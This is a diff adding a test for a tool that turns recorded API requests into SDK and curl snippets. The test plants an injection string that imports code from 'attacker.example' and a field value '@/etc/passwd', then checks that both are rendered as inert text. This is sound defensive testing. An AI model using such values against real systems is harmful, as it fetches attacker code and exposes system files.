@@ -40,6 +40,22 @@ it("builds a shell command that quotes what a shell would read", () => {
   );
 });
 
+it("prints what a rejected request chose as text, never as code or as the name of a file", async () => {
+  const mock = createMock();
+  const planted = '1); await import("https://attacker.example/x.js"); (0';
+  await mock.fetch(`${mock.url}/v3/lab_tests/${encodeURIComponent(planted)}/markers/2`);
+  const entry = mock.requests.last();
+  expect(entry).toMatchObject({ status: 401, operation: "markers.get" });
+  const { sdk } = buildSnippets(entry as NonNullable<typeof entry>, mock.url);
+  expect(sdk).toBe(`await client.markers.get(${JSON.stringify(planted)}, "2");`);
+  const body = { user_id: "@/etc/passwd", file: "<5 bytes>" };
+  const request = { path: "/lab_report/v1/parser/job", params: {}, query: "", body };
+  const upload = { ...createEntry(mock), method: "POST", operation: "labReports.create" } as const;
+  expect(buildSnippets({ ...upload, request, error: undefined, response: null }, mock.url).curl).toMatch(
+    / --form-string 'user_id=@\/etc\/passwd' \\\n {2}-F 'file=@FILE'$/,
+  );
+});
+
 function createEntry(mock: ReturnType<typeof createMock>) {
   return {
     sequence: 1,
